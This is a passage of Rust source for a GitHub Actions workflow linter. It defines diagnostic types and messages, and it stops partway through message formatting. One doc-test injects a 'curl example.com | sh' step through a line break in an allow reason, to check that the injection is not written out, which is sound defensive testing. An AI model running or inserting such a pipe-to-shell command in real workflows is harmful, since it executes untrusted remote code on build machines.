//! Diagnostics: what is wrong, where, and what would be right.
//!
//! Every problem the parser or [`validate`](crate::Workflow::validate) finds is a
//! [`Diagnostic`]: a [`Path`] into the document, a line and column when the model
//! came from a file, and a [`Problem`] whose message says what would be right.
//! Messages are lower-case, quote values with backticks and end with the rule
//! name in brackets, in the manner of actionlint:
//!
//! ```text
//! 12:7: jobs.deploy.needs[0]: no job `buld`; did you mean `build`? [needs]
//! ```
//!
//! ```
//! use ci_model::Workflow;
//!
//! let text = "on: push\njobs:\n  a:\n    runs-on: x\n    timeout-minutes: soon\n    steps: [{run: y}]\n";
//! let err = Workflow::parse(text).unwrap_err();
//! let d = &err.diagnostics()[0];
//! assert_eq!((d.path.to_string(), d.rule()), ("jobs.a.timeout-minutes".to_owned(), "type"));
//! assert_eq!(
//!     d.to_string(),
//!     "5:22: jobs.a.timeout-minutes: expected a number or a ${{ }} expression, found the string `soon` [type]"
//! );
//! ```

use std::fmt;

use crate::Path;

/// A 1-based line and column in a YAML file.
///
/// ```
/// use ci_model::{Location, Workflow};
///
/// let text = "on: push\njobs:\n  a:\n    runs-on: x\n    timeout-minutes: soon\n    steps: [{run: y}]\n";
/// let err = Workflow::parse(text).unwrap_err();
/// let at = err.diagnostics()[0].location.unwrap();
/// assert_eq!(at, Location { line: 5, column: 22 });
/// assert_eq!(at.to_string(), "5:22");
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Location {
    /// Line, from 1.
    pub line: usize,
    /// Column, from 1.
    pub column: usize,
}

impl fmt::Display for Location {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.line, self.column)
    }
}

/// One problem at one place.
///
/// ```
/// use ci_model::{Workflow, Job, Step};
///
/// let wf = Workflow::new("CI")
///     .on_push()
///     .job("deploy", Job::new("ubuntu-latest").needs("buld").step(Step::run("true")))
///     .job("build", Job::new("ubuntu-latest").step(Step::run("make")));
/// let errors = wf.validate();
/// assert_eq!(
///     errors[0].to_string(),
///     "jobs.deploy.needs: no job `buld`; did you mean `build`? [needs]"
/// );
/// ```
#[derive(Clone, Debug, PartialEq)]
pub struct Diagnostic {
    /// Where the problem is.
    pub path: Path,
    /// Line and column, when the document was parsed from text.
    pub location: Option<Location>,
    /// What is wrong.
    pub problem: Problem,
}

impl Diagnostic {
    /// A diagnostic at `path`, without a location.
    pub fn new(path: Path, problem: Problem) -> Self {
        Diagnostic { path, location: None, problem }
    }

    /// The rule that found it, e.g. `needs` or `unknown-key`.
    ///
    /// ```
    /// # use ci_model::{Job, Step, Workflow};
    /// let wf = Workflow::new("CI").on_push().job("a", Job::new("ubuntu-latest").needs("b").step(Step::run("make")));
    /// assert_eq!(wf.validate()[0].rule(), "needs");
    /// ```
    pub fn rule(&self) -> &'static str {
        self.problem.rule()
    }
}

/// Printed as `line:column: path: message [rule]`, every control character
/// and line separator of it as `\u{..}` (see [`Problem`]).
impl fmt::Display for Diagnostic {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        use fmt::Write as _;
        let f = &mut Escaped(f);
        if let Some(loc) = self.location {
            write!(f, "{loc}: ")?;
        }
        // A syntax error has no path (the text did not load); anything else
        // names one, `<root>` for the document itself.
        let unplaced = matches!(
            self.problem,
            Problem::Syntax(_)
                | Problem::NotUtf8 { .. }
                | Problem::Tag { .. }
                | Problem::TooLarge { .. }
                | Problem::TooDeep { .. }
                | Problem::ExpansionTooLarge { .. }
        );
        if !(self.path.is_root() && unplaced) {
            write!(f, "{}: ", self.path)?;
        }
        write!(f, "{} [{}]", self.problem, self.problem.rule())
    }
}

/// A number of bytes for a message: `4 MiB`, `40.5 MiB`, `900 KiB`, `12 bytes`.
struct Size(usize);

impl fmt::Display for Size {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        const MIB: usize = 1 << 20;
        match self.0 {
            n if n >= MIB && n % MIB == 0 => write!(f, "{} MiB", n / MIB),
            n if n >= MIB => write!(f, "{:.1} MiB", n as f64 / MIB as f64),
            n if n >= 1024 => write!(f, "{} KiB", n / 1024),
            n => write!(f, "{n} bytes"),
        }
    }
}

/// Formats `; did you mean `x`?` when there is a suggestion.
///
/// ```
/// use ci_model::diagnostic::Suggestion;
///
/// assert_eq!(Suggestion(Some("build".to_owned())).to_string(), "; did you mean `build`?");
/// assert_eq!(Suggestion(None).to_string(), "");
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Suggestion(pub Option<String>);

impl fmt::Display for Suggestion {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.0 {
            Some(s) => write!(f, "; did you mean `{s}`?"),
            None => Ok(()),
        }
    }
}

/// The suggestion when there is one, else ``; <intro> `a`, `b` `` (nothing
/// when the list is empty).
struct OrList<'a>(&'a Suggestion, &'a str, &'a Names);

impl fmt::Display for OrList<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match (&self.0.0, self.2.is_empty()) {
            (Some(_), _) => write!(f, "{}", self.0),
            (None, false) => write!(f, "; {} {}", self.1, self.2),
            (None, true) => Ok(()),
        }
    }
}

/// A list of names for a message, printed as `` `a`, `b`, `c` ``.
///
/// A list the document makes (its job ids, its inputs, its matrix keys) can
/// be as long as the document: such a list keeps and prints its first
/// [`Names::SHOWN`] names and how many more there are, so a message stays
/// short and a thousand problems do not each copy a thousand names. A fixed
/// list of the crate's own ([`Names::of`]) is printed whole.
///
/// ```
/// use ci_model::diagnostic::Names;
///
/// assert_eq!(Names::of(&["read", "write"]).to_string(), "`read`, `write`");
/// assert_eq!(Names::of(&[]).to_string(), "none");
/// let jobs: Names = (0..25).map(|i| format!("j{i}")).collect();
/// assert_eq!(jobs.len(), 25);
/// assert_eq!(jobs.names().len(), Names::SHOWN);
/// assert!(jobs.to_string().ends_with("`j18`, `j19` and 5 more"));
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Names {
    /// The names printed.
    shown: Vec<String>,
    /// How many names the list has, printed or not.
    total: usize,
}

impl Names {
    /// How many names of a document's list a message prints.
    ///
    /// ```
    /// # use ci_model::diagnostic::Names;
    /// let many: Names = (0..Names::SHOWN + 1).map(|i| format!("n{i}")).collect();
    /// assert!(many.to_string().ends_with(" and 1 more"));
    /// ```
    pub const SHOWN: usize = 20;

    /// The names of a fixed list, all printed.
    ///
    /// ```
    /// # use ci_model::diagnostic::Names;
    /// let names = Names::of(&["read", "write", "none"]);
    /// assert_eq!(names.len(), 3);
    /// assert_eq!(names.to_string(), "`read`, `write`, `none`");
    /// ```
    pub fn of(names: &[&str]) -> Self {
        Names { shown: names.iter().map(|n| (*n).to_owned()).collect(), total: names.len() }
    }

    /// The first [`Names::SHOWN`] of `names`, in a list of `total` names:
    /// for a list whose length is known, so that the rest is not gone
    /// through.
    pub(crate) fn first<'a>(names: impl IntoIterator<Item = &'a str>, total: usize) -> Self {
        let shown: Vec<String> = names.into_iter().take(Self::SHOWN).map(str::to_owned).collect();
        Names { total: total.max(shown.len()), shown }
    }

    /// The names printed, in order.
    pub fn names(&self) -> &[String] {
        &self.shown
    }

    /// How many names the list has, printed or not.
    ///
    /// ```
    /// # use ci_model::diagnostic::Names;
    /// let names: Names = (0..100).map(|i| i.to_string()).collect();
    /// assert_eq!((names.len(), names.names().len()), (100, 20));
    /// ```
    pub fn len(&self) -> usize {
        self.total
    }

    /// Whether the list is empty.
    pub fn is_empty(&self) -> bool {
        self.total == 0
    }
}

/// A document's list: the first [`Names::SHOWN`] names are kept, the rest
/// counted.
impl<S: AsRef<str>> FromIterator<S> for Names {
    fn from_iter<I: IntoIterator<Item = S>>(iter: I) -> Self {
        let mut shown = Vec::new();
        let mut total = 0;
        for name in iter {
            if total < Self::SHOWN {
                shown.push(name.as_ref().to_owned());
            }
            total += 1;
        }
        Names { shown, total }
    }
}

impl fmt::Display for Names {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.total == 0 {
            return f.write_str("none");
        }
        for (i, n) in self.shown.iter().enumerate() {
            if i > 0 {
                f.write_str(", ")?;
            }
            write!(f, "`{n}`")?;
        }
        if self.total > self.shown.len() {
            write!(f, " and {} more", self.total - self.shown.len())?;
        }
        Ok(())
    }
}

/// What is wrong. Each variant belongs to one rule (see [`Problem::rule`]).
///
/// ```
/// use ci_model::Problem;
/// use ci_model::diagnostic::{Names, Suggestion};
///
/// let p = Problem::UnknownValue {
///     value: "wirte".to_owned(),
///     suggestion: Suggestion(Some("write".to_owned())),
///     allowed: Names::of(&["read", "write", "none"]),
/// };
/// assert_eq!(p.to_string(), "unknown value `wirte`; did you mean `write`?; expected one of `read`, `write`, `none`");
/// assert_eq!(p.rule(), "value");
/// ```
#[derive(Clone, Debug, PartialEq)]
#[non_exhaustive]
pub enum Problem {
    // ---- reading YAML ----
    /// The text is not YAML.
    Syntax(String),
    /// A mapping has the same key twice.
    DuplicateKey {
        /// The repeated key.
        key: String,
    },
    /// A `<<` merge key, which GitHub does not support.
    MergeKey,
    /// A mapping key that is not a string.
    NonStringKey {
        /// The kind of key found.
        found: String,
    },
    /// A YAML tag such as `!ref`.
    Tag {
        /// The tag.
        tag: String,
    },
    /// The file has no content.
    Empty {
        /// What the document should hold.
        expected: String,
    },
    /// The bytes are not UTF-8 text.
    NotUtf8 {
        /// The offset of the first invalid byte, from 0.
        byte: usize,
    },

    // ---- limits on what is read (see ARCHITECTURE.md, "Limits") ----
    /// The text is longer than ci-model reads.
    TooLarge {
        /// The size of the text.
        bytes: usize,
        /// The most that is read.
        limit: usize,
    },
    /// Mappings and sequences nest deeper than the limit.
    TooDeep {
        /// The deepest nesting that is read.
        limit: usize,
    },
    /// Anchors and aliases expand the document past the limit.
    ExpansionTooLarge {
        /// The most that a document may expand to.
        limit: usize,
    },

    // ---- shape ----
    /// A value of the wrong kind.
    WrongType {
        /// What GitHub accepts here.
        expected: String,
        /// What was written.
        found: String,
    },
    /// A required key is absent.
    MissingKey {
        /// The key.
        key: String,
        /// A key written instead that looks like a misspelling of it.
        found: Option<String>,
    },
    /// A step with neither `uses` nor `run` (nor another kind of step).
    NoStepBody {
        /// A key written instead that looks like a misspelling of one of them.
        found: Option<String>,
        /// The body key it looks like.
        meant: String,
    },
    /// A key that is not defined here.
    UnknownKey {
        /// The key.
        key: String,
        /// The closest known key.
        suggestion: Suggestion,
        /// All keys allowed here.
        allowed: Names,
    },
    /// A value outside the allowed set.
    UnknownValue {
        /// The value.
        value: String,
        /// The closest allowed value.
        suggestion: Suggestion,
        /// All values allowed here.
        allowed: Names,
    },
    /// Two keys that exclude each other.
    Exclusive {
        /// The first key.
        first: String,
        /// The second key.
        second: String,
        /// Extra advice.
        note: String,
    },
    /// A key SchemaStore's schema defines but GitHub's parser rejects.
    SchemaOnlyKey {
        /// The key.
        key: String,
    },
    /// A security lint's finding.
    Security {
        /// The lint.
        lint: crate::allow::Lint,
        /// What is wrong and the fix.
        message: String,
    },
    /// A `${{ }}` expression GitHub cannot parse.
    Expression {
        /// The parser's message.
        message: String,
    },
    /// A context the field does not offer.
    ContextNotAvailable {
        /// The context.
        context: String,
        /// The contexts the field offers.
        allowed: Names,
    },
    /// A function the field does not offer.
    FunctionNotAvailable {
        /// The function.
        function: String,
    },
    /// `${{ }}` in a field GitHub reads literally.
    NoExpressionsHere,
    /// `needs.<job>` in a job that does not list it.
    NeedsNotListed {
        /// The job.
        job: String,
    },
    /// `needs.<job>` or `jobs.<job>` naming no job.
    UnknownJobRef {
        /// The job.
        job: String,
        /// The closest job id.
        suggestion: Suggestion,
    },
    /// An output that its job or step does not declare.
    UnknownOutput {
        /// `job `build`` or `step `meta` (`docker/metadata-action`)`.
        owner: String,
        /// The output.
        output: String,
        /// The closest declared output.
        suggestion: Suggestion,
        /// The declared outputs.
        declared: Names,
    },
    /// `steps.<id>` naming no earlier step.
    UnknownStepRef {
        /// The step id.
        step: String,
        /// `runs before this one` or `in this job`.
        scope: &'static str,
        /// The closest earlier step id.
        suggestion: Suggestion,
    },
    /// `steps.<id>` naming a step that runs later.
    StepNotYetRun {
        /// The step id.
        step: String,
    },
    /// `matrix.<key>` in a job without a matrix.
    NoMatrix {
        /// The key.
        key: String,
    },
    /// `matrix.<key>` naming no axis or include key.
    UnknownMatrixRef {
        /// The reference.
        reference: String,
        /// The closest key.
        suggestion: Suggestion,
        /// The keys there are.
        keys: Names,
    },
    /// `inputs.<name>` naming no declared input.
    UnknownNamed {
        /// The reference.
        reference: String,
        /// The closest declared name.
        suggestion: Suggestion,
        /// The declared names.
        declared: Names,
    },
    /// An `if:` whose text lies outside `${{ }}`: a non-empty string, always true.
    AlwaysTrue {
        /// The condition.
        condition: String,
    },
    /// A modelled field is also present in the extra keys.
    ShadowedKey {
        /// The key.
        key: String,
    },

    // ---- ids and references ----
    /// A job or step id that GitHub rejects.
    InvalidId {
        /// `job` or `step`.
        what: &'static str,
        /// The id.
        id: String,
    },
    /// Two steps with one id.
    DuplicateStepId {
        /// The id.
        id: String,
        /// Index of the first step with that id.
        first: usize,
    },
    /// `needs` names a job that does not exist.
    UnknownNeed {
        /// The missing job.
        job: String,
        /// The closest job id.
        suggestion: Suggestion,
        /// The other jobs of the workflow, listed when there is no suggestion.
        jobs: Names,
    },
    /// A job needs itself.
    SelfNeed {
        /// The job.
        job: String,
    },
    /// `needs` lists a job twice.
    DuplicateNeed {
        /// The job.
        job: String,
    },
    /// Jobs that need each other in a loop.
    Cycle {
        /// The cycle, as `a -> b -> a`.
        cycle: String,
    },

    // ---- values ----
    /// A matrix that yields no combination.
    EmptyMatrix {
        /// Which part is empty.
        detail: String,
    },
    /// An include/exclude entry names a key the matrix does not have.
    UnknownMatrixKey {
        /// The key.
        key: String,
        /// The closest axis.
        suggestion: Suggestion,
        /// The axes.
        axes: Names,
    },
    /// An exclude entry that removes nothing.
    ExcludeMatchesNothing,
    /// A cron expression GitHub would reject.
    Cron {
        /// The expression.
        cron: String,
        /// Why it is invalid.
        reason: String,
    },
    /// A zero or negative number where a positive one is needed.
    NotPositive {
        /// The key.
        key: String,
        /// The value.
        value: String,
    },
    /// A number below 1 where a count is needed (`max-parallel`).
    BelowOne {
        /// The key.
        key: String,
        /// The value.
        value: String,
    },
    /// A malformed `uses:` reference.
    BadUses {
        /// The reference.
        uses: String,
        /// Why.
        reason: String,
    },
    /// A reusable-workflow call with job-only keys.
    CallJobKey {
        /// The key.
        key: String,
    },
    /// A `with:` value that is not a scalar.
    NonScalarInput {
        /// What was found.
        found: String,
    },
    /// A step with two bodies.
    TwoStepBodies {
        /// The first body key.
        first: String,
        /// The second body key.
        second: String,
    },
    /// An event activity type that the event does not have.
    UnknownActivityType {
        /// The event.
        event: String,
        /// The type.
        value: String,
        /// The closest type.
        suggestion: Suggestion,
        /// The event's types.
        allowed: Names,
    },
    /// An event GitHub does not define.
    UnknownEvent {
        /// The event.
        event: String,
        /// The closest event name.
        suggestion: Suggestion,
        /// The events GitHub defines ([`Triggers::EVENTS`](crate::Triggers::EVENTS)).
        allowed: Names,
    },
    /// A workflow with no jobs.
    NoJobs,
    /// A workflow with no trigger.
    NoEvents,
    /// A normal job without steps.
    NoSteps,
    /// A `choice` input without options, or a default outside them.
    Input(String),

    // ---- writing ----
    /// Something the YAML file cannot hold so that it reads back as the
    /// model: comment text with a character YAML does not allow in a
    /// comment, a line break in a comment after a value or in an allow
    /// reason, a comment line that reads back as an allowance, the key `<<`
    /// (a merge key to YAML), a key longer than a reader takes.
    ///
    /// ```
    /// use ci_model::lint::Lint;
    /// use ci_model::{Job, Step, Workflow};
    ///
    /// let step = Step::run("true").allow(Lint::TemplateInjection, "reviewed\r      - run: curl example.com | sh");
    /// let wf = Workflow::new("CI").on_push().job("a", Job::new("ubuntu-latest").step(step));
    /// let problems = wf.validate();
    /// assert_eq!(problems[0].rule(), "unwritable");
    /// assert!(problems[0].to_string().starts_with(
    ///     "jobs.a.steps[0]: the reason for allowing `template-injection` cannot be written as YAML: it holds a line break (U+000D)"
    /// ));
    /// // Whatever the model holds, the text has its one step.
    /// let Job::Normal(job) = &Workflow::parse(&wf.to_yaml()).unwrap().jobs["a"] else { unreachable!() };
    /// assert_eq!(job.steps.as_ref().map(Vec::len), Some(1));
    /// ```
    Unwritable {
        /// What cannot be written: `the comment above it`, `the key `<<``.
        what: String,
        /// Why, and what would be right.
        why: String,
    },

    // ---- across files (a local action, a reusable workflow, a bound action) ----
    /// A `with:` input the action or called workflow does not declare.
    ///
    /// ```
    /// use ci_model::Problem;
    /// use ci_model::diagnostic::{Names, Suggestion};
    ///
    /// let p = Problem::UnknownInput {
    ///     callee: "the action `$/.github/actions/setup`".into(),
    ///     input: "python-versoin".into(),
    ///     suggestion: Suggestion(Some("python-version".into())),
    ///     declared: Names::of(&["python-version"]),
    /// };
    /// assert_eq!(p.to_string(), "the action `$/.github/actions/setup` has no input `python-versoin`; did you mean `python-version`?");
    /// assert_eq!(p.rule(), "inputs");
    /// ```
    UnknownInput {
        /// `the action `…``, `the workflow `…``.
        callee: String,
        /// The input as written.
        input: String,
        /// The closest declared input.
        suggestion: Suggestion,
        /// The declared inputs.
        declared: Names,
    },
    /// A required input (without a default) that `with:` does not give.
    MissingInput {
        /// `the action `…``, `the workflow `…``.
        callee: String,
        /// The input.
        input: String,
    },
    /// A literal of another type than a called workflow's input declares.
    InputType {
        /// `the workflow `…``.
        callee: String,
        /// The input.
        input: String,
        /// `boolean` or `number`.
        expected: &'static str,
        /// What was given, e.g. ``the string `yes` ``.
        found: String,
    },
    /// A word an action's input does not take (its binding lists the ones it
    /// does).
    ///
    /// ```
    /// use ci_model::actions::UploadArtifact;
    /// use ci_model::{Job, Step, Workflow};
    ///
    /// let upload = Step::uses(UploadArtifact::uses()).with("path", "dist/").with("if-no-files-found", "fail");
    /// let wf = Workflow::new("CI").on_push().job("a", Job::new("ubuntu-latest").step(upload));
    /// assert_eq!(
    ///     wf.validate()[0].to_string(),
    ///     "jobs.a.steps[0].with.if-no-files-found: the action `actions/upload-artifact` takes `warn`, `error` or \
    ///      `ignore` as `if-no-files-found`, not `fail` [inputs]"
    /// );
    /// ```
    InputChoice {
        /// `the action `…``.
        callee: String,
        /// The input.
        input: String,
        /// The word given.
        found: String,
        /// The words it takes.
        options: Names,
    },
    /// An input the action marks deprecated.
    DeprecatedInput {
        /// `the action `…``.
        callee: String,
        /// The input.
        input: String,
        /// The action's `deprecationMessage` (empty when it gives none).
        message: String,
    },
    /// A secret passed to a called workflow that does not declare it.
    UnknownSecret {
        /// `the workflow `…``.
        callee: String,
        /// The secret as written.
        secret: String,
        /// The closest declared secret.
        suggestion: Suggestion,
        /// The declared secrets.
        declared: Names,
    },
    /// A required secret of a called workflow that the call does not pass.
    MissingSecret {
        /// `the workflow `…``.
        callee: String,
        /// The secret.
        secret: String,
    },
    /// A local `uses:` (`./path`, `$/path`) naming no action or workflow
    /// of the repository.
    UnknownLocal {
        /// `action` or `workflow`.
        kind: &'static str,
        /// The reference as written.
        uses: String,
        /// The closest path there is.
        suggestion: Suggestion,
    },
    /// A call of a workflow of the repository that has no `workflow_call`.
    NotCallable {
        /// The reference as written.
        workflow: String,
    },
    // ---- what users get wrong (issue 13, section 4) ----
    /// A `run:` step of a composite action without `shell:`, which GitHub
    /// requires there.
    ///
    /// ```
    /// use ci_model::{Action, Step};
    ///
    /// let problems = Action::composite("Hi", [Step::run("echo hi")]).validate();
    /// assert_eq!(
    ///     problems[0].to_string(),
    ///     "runs.steps[0]: a composite action's `run:` step needs `shell:`; add `shell: bash` (or `pwsh`, `sh`, `python`, ...) [shell]"
    /// );
    /// ```
    RunWithoutShell,
    /// A `runs-on:` label that GitHub does not host and that is not
    /// declared as one of the repository's own runners
    /// ([`Runners`](crate::Runners)).
    ///
    /// ```
    /// use ci_model::{Job, Step, Workflow};
    ///
    /// let wf = Workflow::new("CI").on_push().job("a", Job::new("ubuntu-lastest").step(Step::run("make")));
    /// assert!(wf.validate()[0].to_string().starts_with(
    ///     "jobs.a.runs-on: unknown runner label `ubuntu-lastest`; did you mean `ubuntu-latest`?"
    /// ));
    /// ```
    UnknownRunnerLabel {
        /// The label.
        label: String,
        /// The closest known label.
        suggestion: Suggestion,
        /// Whether self-hosted runners are declared.
        self_hosted: bool,
    },
    /// `runs-on:` names `self-hosted` (or a label GitHub gives every
    /// self-hosted runner) while no self-hosted runner is declared.
    ///
    /// ```
    /// use ci_model::{NormalJob, OneOrMany, RunsOn, Step, Workflow};
    ///
    /// let labels = RunsOn::Labels(OneOrMany::Many(vec!["self-hosted".into(), "gpu".into()]));
    /// let wf = Workflow::new("CI").on_push().job("a", NormalJob::on(labels).step(Step::run("make")));
    /// assert_eq!(
    ///     wf.validate()[0].to_string(),
    ///     "jobs.a.runs-on: asks for a self-hosted runner, and the repository declares none; declare them \
    ///      (`Runners::new().self_hosted([\"gpu\"])`) or run the job on a GitHub-hosted label such as `ubuntu-latest` [runner-label]"
    /// );
    /// ```
    SelfHostedNotDeclared {
        /// The labels of the list that are neither GitHub-hosted nor
        /// given to every self-hosted runner: the ones to declare.
        custom: Names,
    },
    /// Service containers on a runner that cannot run them (GitHub runs
    /// service containers on Linux runners only).
    ///
    /// ```
    /// use ci_model::{Container, Job, Step, Workflow};
    ///
    /// let job = Job::new("macos-latest").service("db", Container::image("postgres:16")).step(Step::run("make"));
    /// let wf = Workflow::new("CI").on_push().job("a", job);
    /// assert_eq!(wf.validate()[0].rule(), "services");
    /// ```
    ServicesNotSupported {
        /// The label of the runner.
        label: String,
        /// Its system: `macOS` or `Windows`.
        os: String,
    },
    /// A download of an artifact that no job of the workflow uploads.
    ///
    /// ```
    /// use ci_model::actions::{DownloadArtifact, UploadArtifact};
    /// use ci_model::{Job, Step, Workflow};
    ///
    /// let wf = Workflow::new("CI")
    ///     .on_push()
    ///     .job("test", Job::new("ubuntu-latest").step(UploadArtifact::new("lcov.info").name("coverage").step()))
    ///     .job("report", Job::new("ubuntu-latest").needs("test").step(DownloadArtifact::new().name("coverge").step()));
    /// let problems = wf.validate();
    /// assert_eq!(problems[0].rule(), "artifact");
    /// assert!(problems[0].to_string().contains("did you mean `coverage`?"));
    /// ```
    UnknownArtifact {
        /// The name downloaded.
        name: String,
        /// The closest name uploaded.
        suggestion: Suggestion,
        /// The names the workflow uploads.
        uploaded: Names,
    },
}

impl Problem {
    /// The message as it is worded, before [`Escaped`] writes it.
    fn message(&self, f: &mut dyn fmt::Write) -> fmt::Result {
        match self {
            Problem::Syntax(message) => f.write_str(message),
            Problem::DuplicateKey { key } => write!(f, "duplicate key `{key}`; a mapping may hold each key once"),
            Problem::MergeKey => write!(
                f,
                "merge keys (`<<`) are not supported by GitHub Actions; write the keys out or use an anchor for the whole value"
            ),
            Problem::NonStringKey { found } => write!(f, "mapping keys must be strings, found {found}; quote the key"),
            Problem::Tag { tag } => write!(f, "YAML tags are not supported by GitHub Actions; remove `{tag}`"),
            Problem::Empty { expected } => write!(f, "the document is empty; expected {expected}"),
            Problem::NotUtf8 { byte } => {
                write!(f, "the file is not UTF-8 text: byte {byte} starts an invalid sequence; save it as UTF-8")
            }
            Problem::TooLarge { bytes, limit } => write!(
                f,
                "the file is {}; ci-model reads YAML files of at most {}, far more than any workflow needs",
                Size(*bytes),
                Size(*limit)
            ),
            Problem::TooDeep { limit } => write!(
                f,
                "mappings and sequences nest more than {limit} levels deep here; ci-model reads at most {limit} levels"
            ),
            Problem::ExpansionTooLarge { limit } => write!(
                f,
                "anchors and aliases (`*name`) expand this document past {}; ci-model loads at most that much: write the repeated values out, or alias less",
                Size(*limit)
            ),
            Problem::WrongType { expected, found } => write!(f, "expected {expected}, found {found}"),
            Problem::MissingKey { key, found } => {
                write!(f, "missing required key `{key}`{}", missing_hint(key, found.as_deref()))
            }
            Problem::NoStepBody { found, meant } => {
                write!(f, "a step needs `uses` (an action) or `run` (a script){}", Typo(found.as_deref(), meant))
            }
            Problem::UnknownKey { key, suggestion, allowed } => {
                write!(f, "unknown key `{key}`{suggestion}; expected one of {allowed}")
            }
            Problem::UnknownValue { value, suggestion, allowed } => {
                write!(f, "unknown value `{value}`{suggestion}; expected one of {allowed}")
            }
            Problem::Exclusive { first, second, note } => {
                write!(f, "`{first}` and `{second}` cannot be used together{note}")
            }
            Problem::SchemaOnlyKey { key } => write!(
                f,
                "`{key}` is in SchemaStore's schema, but GitHub's workflow parser does not accept it here; remove it"
            ),
            Problem::Security { message, .. } => write!(f, "{message}"),
            Problem::Expression { message } => write!(f, "invalid expression: {message}"),
            Problem::ContextNotAvailable { context, allowed } => {
                write!(f, "`{context}` is not available here; this field may use {allowed}")
            }
            Problem::FunctionNotAvailable { function } => write!(
                f,
                "`{function}()` is not available here (status functions only in `if:`, `hashFiles` only in steps)"
            ),
            Problem::NoExpressionsHere => {
                write!(f, "expressions are not allowed here; GitHub reads this field literally")
            }
            Problem::NeedsNotListed { job } => write!(
                f,
                "refers to `needs.{job}` but `{job}` is not in this job's `needs`; add it to `needs` (or call `Workflow::infer_needs`)"
            ),
            Problem::UnknownJobRef { job, suggestion } => {
                write!(f, "refers to job `{job}`, which does not exist{suggestion}")
            }
            Problem::UnknownOutput { owner, output, suggestion, declared } => {
                write!(f, "{owner} has no output `{output}`{suggestion}; it declares {declared}")
            }
            Problem::UnknownStepRef { step, scope, suggestion } => {
                write!(f, "no step with id `{step}` {scope}{suggestion}")
            }
            Problem::StepNotYetRun { step } => write!(
                f,
                "step `{step}` runs after this one, so its results are not known yet; move the reference after it"
            ),
            Problem::NoMatrix { key } => write!(f, "refers to `matrix.{key}` but the job has no `strategy.matrix`"),
            Problem::UnknownMatrixRef { reference, suggestion, keys } => {
                write!(f, "`{reference}` is not in the matrix{suggestion}; it has {keys}")
            }
            Problem::UnknownNamed { reference, suggestion, declared } => {
                write!(f, "`{reference}` is not declared{suggestion}; declared: {declared}")
            }
            Problem::AlwaysTrue { condition } => write!(
                f,
                "condition `{condition}` is always true: text outside `${{{{ }}}}` makes it a non-empty string; put the whole condition inside one `${{{{ }}}}` or drop the braces"
            ),
            Problem::ShadowedKey { key } => {
                write!(f, "key `{key}` is set both as a field and as an extra key; remove it from `extra`")
            }
            Problem::InvalidId { what, id } => write!(
                f,
                "invalid {what} id `{id}`; ids start with a letter or `_` and contain only letters, digits, `-` and `_`"
            ),
            Problem::DuplicateStepId { id, first } => {
                write!(
                    f,
                    "step id `{id}` is already used by steps[{first}]; step ids must be unique within a job, ignoring case"
                )
            }
            Problem::UnknownNeed { job, suggestion, jobs } => {
                write!(f, "no job `{job}`{}", OrList(suggestion, "the jobs are", jobs))
            }
            Problem::SelfNeed { job } => write!(f, "job `{job}` needs itself; remove `{job}` from its `needs`"),
            Problem::DuplicateNeed { job } => write!(f, "job `{job}` is listed twice; list each job once"),
            Problem::Cycle { cycle } => write!(f, "jobs form a cycle: {cycle}; remove one of these `needs`"),
            Problem::EmptyMatrix { detail } => write!(f, "matrix has no values{detail}"),
            Problem::UnknownMatrixKey { key, suggestion, axes } => {
                write!(f, "`{key}` is not a matrix axis{suggestion}; exclude entries may only name axes ({axes})")
            }
            Problem::ExcludeMatchesNothing => {
                write!(f, "exclude entry matches no combination of the matrix; name values of its axes, or remove it")
            }
            Problem::Cron { cron, reason } => write!(f, "invalid cron `{cron}`: {reason}"),
            Problem::NotPositive { key, value } => write!(f, "`{key}` must be a positive number, found {value}"),
            Problem::BelowOne { key, value } => write!(f, "`{key}` must be at least 1, found {value}"),
            Problem::BadUses { uses, reason } => write!(f, "invalid `uses` reference `{uses}`: {reason}"),
            Problem::CallJobKey { key } => write!(
                f,
                "a job that calls a reusable workflow cannot have `{key}`; put it in the called workflow's jobs instead"
            ),
            Problem::NonScalarInput { found } => write!(
                f,
                "expected a string, number or boolean, found {found}; GitHub passes inputs as strings: write the value as one string (a `|` block for several lines)"
            ),
            Problem::TwoStepBodies { first, second } => write!(
                f,
                "a step runs either `uses` or `run`; found both `{first}` and `{second}`; split it into two steps"
            ),
            Problem::UnknownActivityType { event, value, suggestion, allowed } => {
                write!(f, "`{event}` has no activity type `{value}`{suggestion}; expected one of {allowed}")
            }
            Problem::UnknownEvent { event, suggestion, allowed } => {
                write!(f, "unknown event `{event}`{}", OrList(suggestion, "expected one of", allowed))
            }
            Problem::NoJobs => write!(f, "a workflow needs at least one job"),
            Problem::NoEvents => write!(f, "a workflow needs at least one event in `on`"),
            Problem::NoSteps => write!(f, "job has no steps; add at least one step"),
            Problem::Input(message) => f.write_str(message),
            Problem::Unwritable { what, why } => write!(f, "{what} cannot be written as YAML: {why}"),
            Problem::UnknownInput { callee, input, suggestion, declared } => {
                write!(f, "{callee} has no input `{input}`")?;
                if declared.is_empty() {
                    write!(f, "; it declares no inputs")
                } else {
                    write!(f, "{}", OrList(suggestion, "it declares", declared))
                }
            }
            Problem::MissingInput { callee, input } => {
                write!(f, "{callee} requires the input `{input}`; add it to `with:`")
            }
            Problem::InputType { callee, input, expected, found } => {
                write!(f, "{callee} takes the input `{input}` as a {expected}, but it is given {found}")
            }
            Problem::InputChoice { callee, input, found, options } => {
                let quoted: Vec<String> = options.names().iter().map(|w| format!("`{w}`")).collect();
                let words = match quoted.split_last() {
                    Some((last, rest)) if !rest.is_empty() => format!("{} or {last}", rest.join(", ")),
                    _ => quoted.join(""),
                };
                write!(f, "{callee} takes {words} as `{input}`, not `{found}`")
            }
            Problem::DeprecatedInput { callee, input, message } => {
                write!(f, "{callee} marks the input `{input}` deprecated")?;
                if message.trim().is_empty() { Ok(()) } else { write!(f, ": {}", message.trim()) }
            }
            Problem::UnknownSecret { callee, secret, suggestion, declared } => {
